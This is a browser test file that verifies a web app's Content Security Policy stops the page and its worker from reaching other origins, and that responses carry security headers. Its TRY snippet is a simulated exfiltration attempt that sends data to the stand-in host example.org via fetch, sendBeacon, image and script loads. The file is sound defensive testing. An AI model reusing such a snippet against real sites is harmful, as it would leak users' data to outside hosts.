"""Nothing leaves: neither the page nor its worker can reach another origin, whatever code runs in them."""

import pytest

from tests.browser import PATIENCE_MS

# A place that is not ours, and the ways to get something there.
ELSEWHERE = "https://example.org/taken"
TRY = """async (address) => {
    const refused = [];
    self.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
    await fetch(address, { method: "POST", body: "a picture" }).catch(() => {});
    if (typeof WorkerGlobalScope === "undefined") {
        const image = new Image();
        await new Promise((done) => { image.onerror = done; image.src = address; });
        navigator.sendBeacon(address, "a picture");
        const script = document.createElement("script");
        await new Promise((done) => { script.onerror = done; script.src = address; document.body.append(script); });
    }
    await new Promise((done) => setTimeout(done, 200));
    return refused.map((directive) => directive.replace("-elem", ""));
}"""


def worker_of(page):
    """The engine's: the first. Those that come after it are the threads of its networks."""
    return page.workers[0]


@pytest.mark.parametrize("visit_number", [1, 2])
def test_another_origin_is_refused_by_the_policy(visit, visit_number):
    visit.open()
    visit.wait_for_engine()
    page = visit.page
    if visit_number == 2:
        # Now everything comes from the service worker.
        visit.wait_for_offline_ready()
        page.reload()
        visit.wait_for_engine()
    of_page = page.evaluate(TRY, ELSEWHERE)
    assert set(of_page) == {"connect-src", "img-src", "script-src"}
    # Fetch and beacon.
    assert of_page.count("connect-src") >= 2
    assert set(worker_of(page).evaluate(TRY, ELSEWHERE)) == {"connect-src"}
    # The browser says so on the console, and the requests that it announces never went out.
    assert all(ELSEWHERE in error or "Content Security" in error for error in visit.console_errors)
    visit.console_errors.clear()
    visit.requests[:] = [url for url in visit.requests if url != ELSEWHERE]
    visit.sent[:] = [url for url in visit.sent if url != ELSEWHERE]


def test_every_answer_carries_the_policy(host, visit):
    answers = []

    def keep(response):
        answers.append(response)

    visit.page.on("response", keep)
    visit.open()
    visit.page.wait_for_selector("#start:not([hidden])", timeout=PATIENCE_MS)
    ours = [answer for answer in answers if answer.url.startswith(host.address)]
    assert ours
    for answer in ours:
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"], answer.url
        assert answer.headers["referrer-policy"] == "no-referrer"
        assert "camera=(self)" in answer.headers["permissions-policy"]
